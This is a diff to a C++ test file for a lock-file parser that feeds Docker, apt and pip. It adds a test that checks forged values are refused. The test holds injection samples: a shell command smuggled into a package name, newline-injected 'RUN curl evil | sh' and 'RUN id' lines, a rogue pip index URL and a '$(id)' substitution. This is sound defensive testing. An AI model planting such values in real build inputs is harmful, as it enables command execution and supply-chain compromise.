@@ -69,11 +69,37 @@ TEST(Lock, DigestCoversEveryValueButItself) {
 
 TEST(Lock, StringsAreEscaped) {
   Lock l = sample();
-  l.files[0].path = "odd \"name\"\\\t.txt";
+  l.files[0].path = "odd \"name\"\\.txt";
   seal(l);
   const std::string text = to_toml(l);
-  EXPECT_NE(text.find(R"(path = "odd \"name\"\\\t.txt")"), std::string::npos) << text;
+  EXPECT_NE(text.find(R"(path = "odd \"name\"\\.txt")"), std::string::npos) << text;
   EXPECT_EQ(parse(text, "envpin.lock").files[0].path, l.files[0].path);
+}
+
+// A lock is hostile input too: its values reach FROM, apt-get install and requirements.lock.
+TEST(Lock, ValuesThatWouldBecomeCodeAreRefused) {
+  const auto refused = [](auto edit) {
+    Lock l = sample();
+    edit(l);
+    seal(l);  // a forger recomputes the digest; the shapes still give it away
+    try {
+      parse(to_toml(l), "envpin.lock");
+    } catch (const diag::Error& e) {
+      return diag::format(e);
+    }
+    return std::string();
+  };
+  EXPECT_EQ(refused([](Lock& l) { l.files[0].path = "tab\there"; }),
+            "envpin: error: envpin.lock: [[file]] 'tab\\there': 'path' holds a character no lock value may hold\n"
+            "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
+  EXPECT_EQ(refused([](Lock& l) { l.apt[0].name = "jq; touch /x"; }),
+            "envpin: error: envpin.lock: [[apt]]: name 'jq; touch /x' is not what envpin writes\n"
+            "envpin: hint: envpin.lock is written only by envpin: run 'envpin lock' to rewrite it\n");
+  EXPECT_NE(refused([](Lock& l) { l.apt[0].version = "1.6\nRUN curl evil | sh"; }), "");
+  EXPECT_NE(refused([](Lock& l) { l.image->reference = "debian@sha256:x AS y\nRUN id"; }), "");
+  EXPECT_NE(refused([](Lock& l) { l.python[0].version = "1.0 --index-url http://evil"; }), "");
+  EXPECT_NE(refused([](Lock& l) { l.python[0].files[0].sha256 = "0"; }), "");
+  EXPECT_NE(refused([](Lock& l) { l.python_index = "http://x' $(id) '"; }), "");
 }
 
 std::string error_of(const std::string& text) {
